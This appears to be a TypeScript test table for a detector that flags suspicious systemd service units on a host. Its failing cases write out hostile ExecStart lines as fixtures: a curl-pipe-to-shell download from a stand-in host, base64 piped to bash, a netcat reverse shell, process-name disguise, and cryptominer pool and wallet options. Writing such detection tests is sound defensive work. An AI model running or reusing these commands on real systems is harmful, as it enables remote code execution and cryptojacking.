import { unitWith } from '../testing/persistence';
import { ruleTable } from '../testing/table';
import { STANDARD_WALLET } from '../testing/wallets';
import { systemdUnitSuspicious } from './systemd-unit-suspicious';

const one = (exec: string, changes = {}) => ({
  facts: { units: [unitWith({ execLines: [`ExecStart=${exec}`], ...changes })] },
});
const path = '/etc/systemd/system/shop.service';
const found = (exec: string, says: string) => ({
  ...one(exec),
  finds: [{ subject: path, severity: 'critical' as const, says }],
});

ruleTable(systemdUnitSuspicious, {
  passes: {
    'no units': { facts: { units: [] } },
    'a service of an administrator': one('/usr/local/bin/shop --serve'),
    'in /opt and /srv': one('-/srv/shop/bin/start --log=/tmp/shop.log'),
    'the unit of a package': one('/var/tmp/x', { packageOwner: 'x' }),
    'it asks its neighbour': one('/usr/bin/curl -fsS http://127.0.0.1:8080/warm-up'),
    'it cleans up in /tmp': one('/usr/bin/rm -rf /tmp/shop'),
    'a unit of a user': one('/home/ops/bin/sync', { path: '/home/ops/.config/systemd/user/sync.service' }),
    'a toolchain of a user': one('/home/ops/.local/bin/sync', { path: '/home/ops/.config/systemd/user/sync.service' }),
    'a timer is another rule': one('/tmp/x', { kind: 'timer' }),
    'a drop-in without a start': { facts: { units: [unitWith({ dropIn: true, execLines: ['ExecStart='] })] } },
  },
  fails: {
    'a hidden path': {
      ...one('/var/tmp/.x/kd -q'),
      finds: [
        {
          subject: path,
          severity: 'critical',
          says: 'Service shop.service runs from a temporary or hidden path: /var/tmp/.x/kd',
          offers: ['systemd.disableUnit', 'file.quarantine', 'file.quarantine'],
        },
      ],
    },
    'the options of a miner': found('/usr/local/bin/netd -o 192.0.2.9:443 -u w -k --tls', 'has the options of a miner'),
    'a shell with a download': found('/bin/sh -c "curl -s https://e.example/x | sh"', 'runs a download'),
    base64: found('/bin/sh -c "echo aWQgPiAvdG1wL3g= | base64 -d | bash"', 'decodes base64'),
    'a pool': found('/usr/local/bin/m -o pool.supportxmr.com:443', 'pool.supportxmr.com'),
    'a shell for somebody else': found('/usr/bin/nc 203.0.113.9 443 -e /bin/sh', 'hands a shell'),
    'another name than its own': found('/bin/bash -c "exec -a \'[kcached]\' /usr/bin/defunct"', 'under the name of'),
    'a wallet': found(`/usr/local/bin/m -u ${STANDARD_WALLET}`, 'names a wallet'),
    'a name that droppers use': {
      ...one('/usr/local/bin/x', { name: 'c3pool_miner.service' }),
      finds: [{ subject: '/etc/systemd/system/c3pool_miner.service', severity: 'critical' }],
    },
    'a home directory': {
      ...one('/home/ops/app/run'),
      finds: [{ subject: path, severity: 'medium', offers: ['systemd.disableUnit', 'file.quarantine'] }],
    },
  },
  unknowns: { 'over the Docker API alone': { facts: {}, because: 'units' } },
});
